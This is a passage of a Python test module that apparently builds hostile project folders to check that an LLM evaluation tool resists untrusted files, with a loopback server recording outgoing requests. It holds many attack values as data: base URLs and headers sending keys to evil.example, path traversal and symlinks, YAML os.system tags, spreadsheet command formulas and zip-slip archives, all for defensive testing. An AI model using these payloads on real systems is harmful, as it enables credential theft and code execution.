"""Files of a stranger, each with what it tries: to read, run, send, write or spend. A server on
loopback, which is also the proxy of every request, is the witness of what leaves.

In the texts ``@EVIL@`` is the stranger's server, ``@LOOP@`` the witness itself, ``@OUT@`` a folder
of the user's next to the stranger's.
"""

from __future__ import annotations

import io
import json
import threading
import time
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Literal, Self
from xml.sax.saxutils import escape

KEY = "sk-canary-2b7c41e95d08aa6f13"
"""What ``OPENAI_API_KEY`` holds, and every other key."""
SECRET = "the canary sings at noon"
"""What the user's files and variables hold."""
OWN_GATEWAY = "http://gateway.example/v1"
"""Where the user has OpenAI's models asked, by a variable of the shell."""
EVIL = "http://evil.example/v1"
ENVIRONMENT = {
    "OPENAI_API_KEY": KEY,
    "OPENAI_BASE_URL": OWN_GATEWAY,
    "MISTRAL_API_KEY": KEY,
    "GROQ_API_KEY": KEY,
    "OPENROUTER_API_KEY": KEY,
    "OPENROUTER_BASE_URL": OWN_GATEWAY,
    "MY_TOKEN": KEY,
    "NOTE": SECRET,
}
Expected = Literal["refused", "limited", "harmless"]
"""Without trust: nothing starts; it stops at a limit; or it does nothing that it should not."""


@dataclass(frozen=True)
class Hostile:
    name: str
    tries: str
    """What it is meant to do to the user."""
    files: Mapping[str, str]
    words: tuple[str, ...] = ("run", "eval.yaml")
    expected: Expected = "refused"
    sees: str = ""
    """What the witness sees once the folder is trusted; without it, that the command works is
    enough.
    """
    makes: str = ""
    """A file that is there once the folder is trusted."""
    links: Mapping[str, str] = field(default_factory=dict)
    code: int = 0
    """The exit code once the folder is trusted."""
    packed: Mapping[str, bytes] = field(default_factory=dict)
    """Files that are not text."""
    starts: bool = True
    """Whether the command can be run to its end here once the folder is trusted."""


class Witness:
    """A server that answers whatever it is asked like OpenAI's, and keeps every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.tokens = 10
        witness = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self) -> None:
                size = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(size).decode(errors="replace")
                witness.requests.append(f"{self.command} {self.path}\n{self.headers}\n{body}")
                if self.command == "CONNECT":
                    self.send_error(502)
                    return
                reply = json.dumps(_reply(witness.tokens)).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(reply)))
                self.end_headers()
                self.wfile.write(reply)

            do_GET = do_POST = do_CONNECT = do_PUT = do_HEAD = answer

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"

    def __enter__(self) -> Self:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()

    def elsewhere(self) -> list[str]:
        """The requests that go anywhere but to the user's own gateway."""
        return [one for one in self.requests if OWN_GATEWAY not in one.partition("\n")[0]]


def _reply(tokens: int) -> dict[str, Any]:
    content = json.dumps({"explanation": "so it is", "verdict": "PASS"})
    return {
        "id": "1",
        "model": "m",
        "choices": [
            {
                "index": 0,
                "finish_reason": "stop",
                "message": {"role": "assistant", "content": content},
            }
        ],
        "usage": {"prompt_tokens": tokens, "completion_tokens": 1, "total_tokens": tokens + 1},
        "answer": "an answer",
        "data": [{"id": "m"}],
    }


def _archive(members: Mapping[str, str]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return held.getvalue()


def _workbook() -> bytes:
    """Rows with formulas that would ask a server, or start a program."""
    cells = ("id", "response", '=WEBSERVICE("http://evil.example/v1")', "=cmd|'/c touch canary'!A1")
    rows = (cells[:2], ("1", cells[2]), ("2", cells[3]))
    text = "".join("<row>" + "".join(_cell(value) for value in row) + "</row>" for row in rows)
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return _archive(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension='
            '"rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/><Override '
            f'PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet '
            'name="rows" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships">'
            f'<Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="r2" Type="{office}/externalLink" Target="{EVIL}" '
            'TargetMode="External"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{text}</sheetData>'
            "</worksheet>",
        }
    )


def _cell(value: str) -> str:
    if value.startswith("="):
        return f'<c t="str"><f>{escape(value[1:])}</f><v>a formula</v></c>'
    return f'<c t="inlineStr"><is><t>{escape(value)}</t></is></c>'


ROWS = "id,question,response\n1,why,Because.\n2,how,Like this.\n"
JUDGE = "judges: [{kind: aspect, criteria: It is short.}]\n"
DATA = "data: rows.csv\n"
OPENAI = "models: openai/gpt-4o-mini\n"
PLAIN = DATA + OPENAI + JUDGE
CANARY = "from pathlib import Path\nPath(__file__).with_name('canary').touch()\n"
ASK = CANARY + 'def ask(prompt):\n    return \'{"explanation": "a", "verdict": "PASS"}\'\n'
CHECK = CANARY + "def fine(text, row):\n    return True\n"
APP = CANARY + "def app(question):\n    return question\n"
RUBRIC = (
    "name: short\ndescription: Is it short?\noptions: [{name: 'Yes', score: 1}, {name: 'No'}]\n"
)
TARGETED = DATA + OPENAI + JUDGE
PRICES = "openai/gpt-4o-mini: {input: 0, output: 0}\n"
SPENDING = (
    "data: rows.csv\nmodels: [{model: openai/gpt-4o-mini, max_concurrency: 1}]\n"
    "judges: [{kind: aspect, criteria: It is short., strictness: 6}]\n"
)
RAG = "question,contexts,answer\nwhy,Because of it.,Because.\n"
PLAIN_TRACE = {
    "messages": [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello."}]
}
SECRET_TRACE = {
    "messages": [{"role": "user", "content": SECRET}, {"role": "assistant", "content": "Hello."}]
}
TRACE = {"messages": [{"role": "user", "content": "${NOTE} file:///etc/passwd"}]}


def _eval(name: str, tries: str, text: str, **more: Any) -> Hostile:
    files = {"eval.yaml": text, **more.pop("files", {})}
    return Hostile(name, tries, files, **more)


def _model(name: str, tries: str, model: str, **more: Any) -> Hostile:
    return _eval(name, tries, f"{DATA}models: [{model}]\n{JUDGE}", **more)


_SENT = "send rows and a key to the stranger's server"
_READ = "read a file of the user's and send it"
_RUN = "run the stranger's code"
_WRITE = "write outside of its folder"
_CHECK = ("check", "hello", "--criterion", "It is short.", "-m", "openai/gpt-4o-mini")
_TYPED = "send the key of a typed command to the stranger's server"

_SCENARIO = '[{"id": "s", "goal": "Ask the time."}]'


def _conversation(name: str, tries: str, user: str, **more: Any) -> Hostile:
    text = (
        "data: scenarios.json\ntarget: {model: openai/gpt-4o-mini, prompts: ask.txt}\n"
        f"judges: [{{kind: conversation, max_turns: 1, user: {user}}}]\n"
    )
    files = {"scenarios.json": _SCENARIO, "ask.txt": "{message}"}
    return _eval(name, tries, text, files=files, code=3, **more)


HOSTILE = (
    # -- eval files: where models are asked, and with what
    _conversation(
        "simulated user at an address",
        _SENT,
        "{model: '@EVIL@#m', api_key_env: MY_TOKEN}",
        sees=KEY,
    ),
    _conversation(
        "typed model, simulated user at an address",
        _SENT,
        "{model: '@EVIL@#m', api_key_env: MY_TOKEN}",
        words=("run", "eval.yaml", "-m", "openai/gpt-4o-mini"),
        sees=KEY,
    ),
    _eval(
        "rubric elsewhere",
        _READ,
        DATA + OPENAI + "judges: [{kind: rubric, rubric: '@OUT@/points.yaml'}]\n",
        code=3,
        sees=SECRET,
    ),
    _model("address with a key", _SENT, "{model: '@EVIL@#m', api_key_env: MY_TOKEN}", sees=KEY),
    _model("address", "send rows", "'@EVIL@#m'", sees="evil.example"),
    _model(
        "address with a header", _SENT, "{model: '@EVIL@#m', headers: {X: $MY_TOKEN}}", sees=KEY
    ),
    _model("address in capitals", "send rows", "' HTTP://evil.example/v1#m'", sees="evil.example"),
    _model(
        "base URL", _SENT, "{model: openai/gpt-4o-mini, base_url: '@EVIL@'}", sees="evil.example"
    ),
    _model(
        "private host",
        _SENT,
        "{model: openai/gpt-4o-mini, base_url: 'http://10.0.0.8/v1'}",
        sees="10.0.0.8",
    ),
    _model(
        "host of the local network",
        _SENT,
        "{model: openai/gpt-4o-mini, base_url: 'http://nas.local/v1'}",
        sees="nas.local",
    ),
    _model(
        "key to a port of this machine",
        "send a key to whoever listens there",
        "{model: openai/gpt-4o-mini, base_url: '@LOOP@/v1'}",
        sees=KEY,
    ),
    _model(
        "named key to a port of this machine",
        "send a key to whoever listens there",
        "{model: '@LOOP@/v1#m', api_key_env: MY_TOKEN}",
        sees=KEY,
    ),
    _model(
        "this machine as a login",
        "send rows",
        "'http://localhost:80@evil.example/v1#m'",
        starts=False,
    ),
    _model(
        "name that begins like this machine's",
        "send rows",
        "'http://127.0.0.1.evil.example/v1#m'",
        sees="evil.example",
    ),
    _model(
        "name that begins like a provider's",
        _SENT,
        "{model: openai/gpt-4o-mini, base_url: 'http://api.openai.com.evil.example/v1'}",
        sees="evil.example",
    ),
    _model(
        "provider's name as a login",
        _SENT,
        "{model: openai/gpt-4o-mini, base_url: 'http://api.openai.com@evil.example/v1'}",
        starts=False,
    ),
    _model(
        "provider without encryption",
        "send a key in the clear",
        "{model: openai/gpt-4o-mini, base_url: 'http://api.openai.com/v1'}",
        sees=KEY,
    ),
    _model(
        "Ollama elsewhere",
        "send rows",
        "{model: ollama/llama3.2, base_url: 'http://evil.example'}",
        starts=False,
    ),
    _model(
        "another secret as a key",
        "send a secret to a provider",
        "{model: openai/gpt-4o-mini, api_key_env: MY_TOKEN}",
        sees=KEY,
    ),
    _model(
        "header to a known provider",
        "reach another customer of the same network by its Host header",
        "{model: openai/gpt-4o-mini, headers: {Host: evil.example}}",
        sees="evil.example",
    ),
    _model(
        "tool of the provider",
        "send rows by a tool that the provider calls",
        "{model: openai/gpt-4o-mini, parameters: {tools: [{type: mcp, server_url: 'http://evil.example'}]}}",
        sees="evil.example",
    ),
    _model("model by litellm", "send rows anywhere", "litellm/huggingface/x", starts=False),
    _eval(
        "step of a cascade",
        _SENT,
        DATA + "judges: [{kind: aspect, criteria: It is short., cascade: [{model: '@EVIL@#m', "
        "api_key_env: MY_TOKEN}, openai/gpt-4o-mini], otherwise: last}]\n",
        sees=KEY,
    ),
    _eval(
        "replacement of a panel",
        _SENT,
        DATA + "judges: [{kind: aspect, criteria: It is short., models: [scripted/none], "
        "replacement: {model: '@EVIL@#m', api_key_env: MY_TOKEN}}]\n",
        sees=KEY,
        code=3,
    ),
    _eval(
        "model that explains",
        _SENT,
        DATA + "models: scripted/FAIL\n" + JUDGE + "explain: {model: '@EVIL@#m', "
        "api_key_env: MY_TOKEN}\n",
        sees=KEY,
    ),
    _eval(
        "typed model, other model that explains",
        "send rows",
        DATA + OPENAI + JUDGE + "explain: '@EVIL@#m'\n",
        words=("run", "eval.yaml", "-m", "scripted/FAIL"),
        sees="evil.example",
    ),
    _eval(
        "code as the model that explains",
        "run code",
        DATA + "models: scripted/FAIL\n" + JUDGE + "explain: 'code.py:write'\n",
        files={"code.py": "open('canary', 'w')\n\n\ndef write(prompt):\n    return ''\n"},
        makes="canary",
    ),
    _eval(
        "calibration of explanations elsewhere",
        _READ,
        DATA + "models: scripted/FAIL\n" + JUDGE + "explain: {model: openai/gpt-4o-mini, "
        "calibration: '@OUT@/secret.json'}\n",
        starts=False,
    ),
    _eval(
        "models of a judge",
        _SENT,
        DATA + "judges: [{kind: aspect, criteria: It is short., models: [{model: '@EVIL@#m', "
        "headers: {Authorization: 'Bearer $MY_TOKEN'}}]}]\n",
        sees=KEY,
    ),
    _eval(
        "address behind an alias of YAML",
        _SENT,
        "data: rows.csv\nmodels:\n  - &a {model: openai/gpt-4o-mini, base_url: '@EVIL@'}\n  - *a\n"
        + JUDGE,
        starts=False,
    ),
    Hostile(
        "eval file in JSON",
        _SENT,
        {
            "eval.json": json.dumps(
                {
                    "data": "rows.csv",
                    "models": [{"model": "@EVIL@#m", "api_key_env": "MY_TOKEN"}],
                    "judges": [{"kind": "aspect", "criteria": "It is short."}],
                }
            )
        },
        ("run", "eval.json"),
        sees=KEY,
    ),
    # -- eval files: code
    _eval(
        "command", _RUN, TARGETED + "target: {command: [touch, canary]}\n", makes="canary", code=3
    ),
    _eval("command as a text", _RUN, TARGETED + "target: touch canary\n", makes="canary", code=3),
    _eval(
        "function", _RUN, TARGETED + "target: app.py:app\n", files={"app.py": APP}, makes="canary"
    ),
    _eval("function of a module", "run a command", TARGETED + "target: os:system\n", starts=False),
    _eval(
        "function as a model",
        _RUN,
        DATA + "models: app.py:ask\n" + JUDGE,
        files={"app.py": ASK},
        makes="canary",
    ),
    _eval("module as a model", "run a command", DATA + "models: os:system\n" + JUDGE, starts=False),
    _eval(
        "judge of its own",
        _RUN,
        DATA + "judges: [{kind: python, judge: 'own:Own', criteria: own.yaml}]\n",
        files={
            "own.py": CANARY + "from adjudge import BaseDirectJudge\nclass Own(BaseDirectJudge):\n"
            "    def _run(self, instances, criteria):\n        return ['Yes' for _ in instances]\n",
            "own.yaml": RUBRIC,
        },
        makes="canary",
    ),
    _eval(
        "expression of a check",
        _RUN,
        DATA + "checks: [{python: \"__import__('pathlib').Path('canary').touch() or True\"}]\n",
        makes="canary",
    ),
    _eval(
        "function of a check",
        _RUN,
        DATA + "checks: [{python: 'app.py:fine'}]\n",
        files={"app.py": CHECK},
        makes="canary",
    ),
    _eval(
        "address that is asked first",
        "send rows",
        TARGETED + "target: {url: '@EVIL@', answer: answer}\n",
        sees="evil.example",
    ),
    _eval(
        "address with a secret",
        "send rows and a secret",
        TARGETED + "target: {url: '@EVIL@', answer: answer, headers: {X: $MY_TOKEN}}\n",
        sees=KEY,
    ),
    _eval(
        "port of this machine",
        "ask a service of the user's that trusts this machine",
        TARGETED + "target: {url: '@LOOP@/shutdown', answer: answer}\n",
        sees="/shutdown",
    ),
    _eval(
        "model that answers",
        _SENT,
        TARGETED + "prompts: p.txt\ntarget: {model: '@EVIL@#m', api_key_env: MY_TOKEN}\n",
        files={"p.txt": "{question}"},
        sees=KEY,
    ),
    # -- eval files: variables
    _eval(
        "variable in a criterion",
        "send what it holds",
        DATA + OPENAI + "judges: [{kind: aspect, criteria: 'It is like ${NOTE}.'}]\n",
        sees=SECRET,
    ),
    _eval(
        "variable as a persona",
        "send what it holds",
        DATA + OPENAI + "judges: [{kind: direct, criteria: own.yaml, persona: $NOTE}]\n",
        files={"own.yaml": RUBRIC},
        sees=SECRET,
        code=3,
    ),
    _eval(
        "variable with a way out",
        "send what it holds",
        DATA + OPENAI + "judges: [{kind: aspect, criteria: 'It is like ${NOTE:-nothing}.'}]\n",
        sees=SECRET,
    ),
    # -- eval files: what they read
    _eval("rows above", _READ, "data: ../outside/secret.csv\n" + OPENAI + JUDGE, sees=SECRET),
    _eval("rows anywhere", _READ, "data: '@OUT@/secret.csv'\n" + OPENAI + JUDGE, sees=SECRET),
    _eval(
        "rows by an address",
        _READ,
        "data: 'file://@OUT@/secret.csv'\n" + OPENAI + JUDGE,
        sees=SECRET,
    ),
    _eval(
        "rows in a bucket",
        "read with the user's credentials",
        "data: s3://bucket/rows.csv\n" + OPENAI + JUDGE,
        starts=False,
    ),
    _eval(
        "rows behind a link",
        _READ,
        "data: linked.csv\n" + OPENAI + JUDGE,
        links={"linked.csv": "@OUT@/secret.csv"},
        sees=SECRET,
    ),
    _eval(
        "rows in a linked folder",
        _READ,
        "data: more/secret.csv\n" + OPENAI + JUDGE,
        links={"more": "@OUT@"},
        sees=SECRET,
    ),
    _eval(
        "hidden rows",
        "read a hidden file of the user's",
        "data: .private/rows.csv\n" + OPENAI + JUDGE,
        files={".private/rows.csv": ROWS},
    ),
    _eval(
        "traces behind a link",
        _READ,
        "data: traces\n" + OPENAI + "judges: [{kind: agent, measures: [goal]}]\n",
        files={"traces/a.jsonl": json.dumps(TRACE)},
        links={"traces/b.jsonl": "@OUT@/trace.jsonl"},
        starts=False,
    ),
    _eval(
        "criteria above",
        _READ,
        DATA + OPENAI + "judges: [{kind: direct, criteria: ../outside/own.yaml}]\n",
        sees=SECRET,
        code=3,
    ),
    _eval(
        "criteria behind a link",
        _READ,
        DATA + OPENAI + "judges: [{kind: direct, criteria: own.yaml}]\n",
        links={"own.yaml": "@OUT@/own.yaml"},
        sees=SECRET,
        code=3,
    ),
    _eval(
        "prompt above",
        _READ,
        TARGETED + "prompts: ../outside/secret.txt\ntarget: {model: openai/gpt-4o-mini}\n",
        sees=SECRET,
    ),
    _eval(
        "prompt above, of a typed target",
        _READ,
        TARGETED + "prompts: ../outside/secret.txt\n",
        words=("run", "eval.yaml", "--target", "openai/gpt-4o-mini"),
        sees=SECRET,
    ),
    _eval(
        "prompt that is hidden",
        "send the user's .env",
        TARGETED + "target: {model: openai/gpt-4o-mini, prompts: [.notes]}\n",
        files={".notes": SECRET},
        sees=SECRET,
    ),
    _eval(
        "configuration above",
        _READ,
        DATA + OPENAI + "judges: [{kind: rag, config: ../outside/rag.yaml}]\n",
        starts=False,
    ),
    _eval(
        "calibration above",
        _READ,
        DATA + "judges: [{kind: aspect, criteria: It is short., calibration: ../outside/c.json, "
        "cascade: [openai/gpt-4o-mini, openai/gpt-4o]}]\n",
        starts=False,
    ),
    _eval(
        "policy above",
        _READ,
        "data: t.jsonl\n" + OPENAI + "judges: [{kind: agent, measures: [policy], "
        "policy: ../outside/secret.txt}]\n",
        starts=False,
    ),
    _eval(
        "expected calls above",
        _READ,
        "data: t.jsonl\njudges: [{kind: agent, measures: [calls_f1], expect: ../outside/e.json}]\n",
        starts=False,
    ),
    _eval(
        "schema above",
        _READ,
        DATA + "checks: [{json: {schema: ../outside/schema.json}}]\n",
        starts=False,
    ),
    _eval(
        "baseline above",
        "read another run of the user's",
        PLAIN + "gates: {not_worse_than: ../outside/run}\n",
        starts=False,
    ),
    _eval(
        "replies above", _READ, DATA + "models: 'replay/../outside/r.jsonl'\n" + JUDGE, starts=False
    ),
    _eval(
        "weights in a file",
        "have a file of its own parsed by native code",
        DATA + "models: local/weights.gguf\n" + JUDGE,
        files={"weights.gguf": "GGUF"},
        starts=False,
    ),
    # -- eval files: what they write
    _eval(
        "output above",
        _WRITE,
        PLAIN + "outputs: [../outside/out.csv]\n",
        makes="../outside/out.csv",
    ),
    _eval(
        "output anywhere", _WRITE, PLAIN + "outputs: ['@OUT@/out.md']\n", makes="../outside/out.md"
    ),
    _eval(
        "output behind a link",
        _WRITE,
        PLAIN + "outputs: [more/out.csv]\n",
        links={"more": "@OUT@"},
        makes="../outside/out.csv",
    ),
    _eval(
        "output to a bucket",
        "send rows and verdicts with the user's credentials",
        PLAIN + "outputs: ['s3://bucket/out.csv']\n",
        starts=False,
    ),
    _eval(
        "hidden output",
        "change what other programs read",
        PLAIN + "outputs: [.github/out.md]\n",
        makes=".github/out.md",
    ),
    _eval(
        "run above", _WRITE, PLAIN + "run: ../outside/run\n", makes="../outside/run/ledger.sqlite"
    ),
    _eval(
        "run anywhere", _WRITE, PLAIN + "run: '@OUT@/run'\n", makes="../outside/run/ledger.sqlite"
    ),
    _eval(
        "runs behind a link",
        _WRITE,
        PLAIN,
        links={"runs": "@OUT@"},
        makes="../outside/eval/ledger.sqlite",
    ),
    _eval(
        "next run behind a link",
        _WRITE,
        PLAIN,
        files={"runs/x": ""},
        links={"runs/eval-2": "@OUT@"},
    ),
    # -- eval files: what they spend
    _eval("no limit", "spend all there is", SPENDING, expected="limited"),
    _eval(
        "huge limit",
        "spend all there is",
        SPENDING + "budget: {max_usd: 1000000}\n",
        expected="limited",
    ),
    _eval(
        "limit of calls alone",
        "spend all there is",
        SPENDING + "budget: {max_calls: 1000000}\n",
        expected="limited",
    ),
    _eval(
        "more than the user allows",
        "lift the user's own limit",
        SPENDING + "budget: {max_calls: 1000000, max_usd: 1000000}\n",
        words=("run", "eval.yaml", "--max-usd", "5"),
        expected="limited",
        code=1,
    ),
    _eval(
        "prices of its own",
        "have a limit in dollars count nothing",
        SPENDING,
        files={"adjudge.toml": 'prices = "p.yaml"\n', "p.yaml": PRICES},
        words=("run", "eval.yaml", "--max-usd", "5"),
    ),
    _eval(
        "attack without a limit",
        "spend all there is",
        SPENDING,
        words=("attack", "eval.yaml", "--family", "flattery"),
        expected="limited",
    ),
    # -- .env next to an eval file
    _eval(
        ".env with a provider's address",
        _SENT,
        DATA + "models: mistral/mistral-small-latest\n" + JUDGE,
        files={".env": "MISTRAL_BASE_URL=@EVIL@\n"},
        sees=KEY,
    ),
    _eval(
        ".env with export and quotes",
        _SENT,
        DATA + "models: groq/m\n" + JUDGE,
        files={".env": "# hello\nexport GROQ_BASE_URL='@EVIL@'\n"},
        sees=KEY,
    ),
    _eval(
        ".env with the address of Ollama",
        "send rows",
        DATA + "models: ollama/m\n" + JUDGE,
        files={".env": "OLLAMA_HOST=evil.example:80\n"},
        starts=False,
    ),
    _eval(
        ".env with a key of the stranger's",
        "have rows asked in the stranger's account, who reads them there",
        DATA + "models: together/m\n" + JUDGE,
        files={".env": "TOGETHER_API_KEY=theirs\nTOGETHER_BASE_URL=http://theirs.example/v1\n"},
        sees="theirs",
    ),
    _eval(
        ".env with an endpoint of a store",
        "redirect credentials",
        PLAIN,
        files={".env": "AWS_ENDPOINT_URL=@EVIL@\n"},
    ),
    _eval(
        ".env that trusts itself",
        _SENT,
        DATA + "models: mistral/mistral-small-latest\n" + JUDGE,
        files={".env": "ADJUDGE_TRUST=1\nMISTRAL_BASE_URL=@EVIL@\n"},
        sees=KEY,
    ),
    _eval(
        ".env with a proxy",
        "have everything sent through the stranger's server",
        PLAIN,
        files={".env": "HTTPS_PROXY=@EVIL@\nPYTHONPATH=.\n"},
        expected="harmless",
    ),
    # -- project files
    Hostile(
        "project with an address",
        _TYPED,
        {"adjudge.toml": 'base_url = "@EVIL@"\n'},
        _CHECK,
        sees=KEY,
    ),
    Hostile(
        "pyproject with an address",
        _TYPED,
        {"pyproject.toml": '[tool.adjudge]\nbase_url = "@EVIL@"\n'},
        _CHECK,
        sees=KEY,
    ),
    Hostile(
        "project with an address of this machine",
        "send the keys of all providers to whoever listens there",
        {"adjudge.toml": 'base_url = "@LOOP@/v1"\n'},
        _CHECK,
        sees=KEY,
    ),
    Hostile(
        "project with a header",
        _TYPED,
        {"adjudge.toml": 'model = "@EVIL@#m"\nheaders = {X = "$MY_TOKEN"}\n'},
        ("check", "hello", "--criterion", "It is short."),
        sees=KEY,
    ),
    Hostile(
        "project with another key",
        "send a secret to a provider",
        {"adjudge.toml": 'model = "openai/gpt-4o-mini"\napi_key_env = "MY_TOKEN"\n'},
        ("check", "hello", "--criterion", "It is short."),
        sees=KEY,
    ),
    Hostile(
        "project with a model's address",
        "send what is typed",
        {"adjudge.toml": 'model = "@EVIL@#m"\n'},
        ("check", "hello", "--criterion", "It is short."),
        sees="evil.example",
    ),
    Hostile(
        "project whose model is code",
        _RUN,
        {
            "adjudge.toml": 'model = "app.py:ask"\n',
            "app.py": ASK,
            "eval.yaml": DATA + JUDGE,
        },
        makes="canary",
    ),
    Hostile(
        "project whose model is code elsewhere",
        _RUN,
        {
            "adjudge.toml": 'model = "app.py:ask"\n',
            "evals/app.py": ASK.replace("with_name('canary')", "parents[1].joinpath('canary')"),
            "evals/eval.yaml": "data: ../rows.csv\n" + JUDGE,
        },
        ("run", "evals/eval.yaml", "--data", "rows.csv"),
        makes="canary",
    ),
    Hostile(
        "project of an eval file",
        _SENT,
        {"adjudge.toml": 'base_url = "@EVIL@"\n', "eval.yaml": PLAIN},
        sees=KEY,
    ),
    *(
        Hostile(
            f"project, by {words[0]}",
            _TYPED,
            {
                "adjudge.toml": 'base_url = "@EVIL@"\nmodel = "openai/gpt-4o-mini"\n',
                "own.yaml": RUBRIC,
            },
            words,
            starts=False,
        )
        for words in (
            ("doctor",),
            ("judge", "hello", "-c", "conciseness"),
            ("compare", "a", "b", "--criterion", "It is short."),
            ("rag", "--csv", "rows.csv"),
            ("generate", "a task"),
            ("criteria", "test", "own.yaml"),
            ("serve", "--port", "0"),
            ("mcp", "--allow-spend", "1"),
            ("view", "--no-open"),
            ("bench", "rows.csv", "-c", "conciseness", "--human", "id"),
        )
    ),
    # -- other commands with an eval file
    _model(
        "attack",
        _SENT,
        "{model: '@EVIL@#m', api_key_env: MY_TOKEN}",
        words=("attack", "eval.yaml", "--max-calls", "4"),
        sees=KEY,
        code=1,
    ),
    _eval(
        "follow",
        _SENT,
        "models: [{model: '@EVIL@#m', api_key_env: MY_TOKEN}]\n" + JUDGE,
        files={"log.jsonl": '{"id": "a", "response": "x"}\n'},
        words=("follow", "eval.yaml", "--from", "log.jsonl", "--once"),
        sees=KEY,
    ),
    _eval(
        "follow into a link",
        _WRITE,
        OPENAI + JUDGE,
        files={"log.jsonl": '{"id": "a", "response": "x"}\n'},
        links={"runs": "@OUT@"},
        words=("follow", "eval.yaml", "--from", "log.jsonl", "--once"),
    ),
    # -- what is data, and stays data
    _eval(
        "criteria with a variable",
        "send what it holds",
        DATA + OPENAI + "judges: [{kind: direct, criteria: own.yaml}]\n",
        files={"own.yaml": RUBRIC.replace("Is it short?", "'Is it ${NOTE}, $NOTE?'")},
        expected="harmless",
        code=3,
    ),
    _eval(
        "criteria with a tag of YAML",
        _RUN,
        DATA + OPENAI + "judges: [{kind: direct, criteria: own.yaml}]\n",
        files={"own.yaml": "!!python/object/apply:os.system ['touch canary']\n"},
        expected="harmless",
        code=1,
    ),
    _eval(
        "eval file with a tag of YAML",
        _RUN,
        DATA + "models: !!python/object/apply:os.system ['touch canary']\n" + JUDGE,
        expected="harmless",
        code=1,
    ),
    _eval(
        "rows with variables and templates",
        "send what they hold",
        PLAIN,
        files={
            "rows.csv": "id,response\n1,${NOTE} $NOTE {{ NOTE }} =cmd|calc file:///etc/passwd\n"
        },
        expected="harmless",
    ),
    _eval(
        "trace with variables",
        "send what they hold",
        "data: t.jsonl\n" + OPENAI + "judges: [{kind: agent, measures: [errors]}]\n",
        files={"t.jsonl": json.dumps(TRACE) + "\n"},
        expected="harmless",
    ),
    Hostile(
        "labels with a formula",
        "be run by whoever opens them",
        {"labels.csv": "row,label\n1,=cmd|'/c calc'!A1\n"},
        ("import", "labels.csv", "--run", "runs/theirs"),
        expected="harmless",
        code=1,
    ),
    Hostile(
        "archive that climbs out",
        _WRITE,
        {},
        ("import", "log.eval", "--run", "runs/theirs"),
        expected="harmless",
        packed={"log.eval": _archive({"header.json": "{}", "../outside/canary": "x"})},
        code=1,
    ),
    _eval(
        "Parquet behind a link",
        "read another file of the user's",
        PLAIN.replace("rows.csv", "rows.parquet"),
        links={"rows.parquet": "@OUT@/secret.csv"},
        starts=False,
    ),
    _eval(
        "Parquet that claims a footer of four gigabytes",
        "fill the memory",
        PLAIN.replace("rows.csv", "rows.parquet"),
        expected="harmless",
        packed={"rows.parquet": b"PAR1" + bytes(64) + b"\xff\xff\xff\xffPAR1"},
        code=1,
    ),
    Hostile(
        "labels behind a link",
        "read another file of the user's",
        {},
        ("import", "labels.csv", "--run", "runs/theirs"),
        expected="harmless",
        links={"labels.csv": "@OUT@/secret.csv"},
        code=1,
    ),
    Hostile(
        "archive of a run",
        _WRITE,
        {},
        ("import", "run.zip", "--run", "runs/theirs"),
        expected="harmless",
        packed={"run.zip": _archive({"ledger.sqlite": "x", "../outside/canary": "x"})},
        code=1,
    ),
    _eval(
        "spreadsheet with formulas and a link",
        "ask a server and start a program",
        PLAIN.replace("rows.csv", "rows.xlsx"),
        expected="harmless",
        packed={"rows.xlsx": _workbook()},
    ),
    _eval(
        "criteria of a repository",
        "fetch a file of the stranger's while judging",
        DATA + OPENAI + "judges: [{kind: direct, criteria: 'github:evil/x@1/own.yaml'}]\n",
        expected="harmless",
        code=1,
    ),
    _eval(
        "criteria of a package that is not installed",
        "load the stranger's module",
        DATA + OPENAI + "judges: [{kind: direct, criteria: evil/own}]\n",
        files={"evil.py": CANARY, "evil/own.yaml": RUBRIC},
        expected="harmless",
        code=1,
    ),
    _eval(
        "run folder behind a link",
        "read another run of the user's",
        "data: theirs\n" + OPENAI + JUDGE,
        links={"theirs/ledger.sqlite": "@OUT@/secret.txt"},
        starts=False,
    ),
    *(
        Hostile(
            f"link at a folder of {words[0]}",
            _WRITE,
            {"eval.yaml": DATA + "models: scripted/PASS\n" + JUDGE, "r.csv": RAG},
            words,
            expected="harmless",
            links={link: "@OUT@"},
            code=1,
        )
        for link, words in {
            "runs": ("attack", "eval.yaml", "--sample", "1"),
            "reports": ("rag", "--csv", "r.csv", "-m", "scripted/PASS"),
            "examples": ("init", "examples"),
        }.items()
    ),
    *(
        Hostile(
            f"{name} of traffic is a link",
            _WRITE,
            {
                "eval.yaml": DATA + "checks: [{contains: a}]\n",
                "t.jsonl": '{"id": "1", "question": "q", "response": "Thanks"}\n',
            },
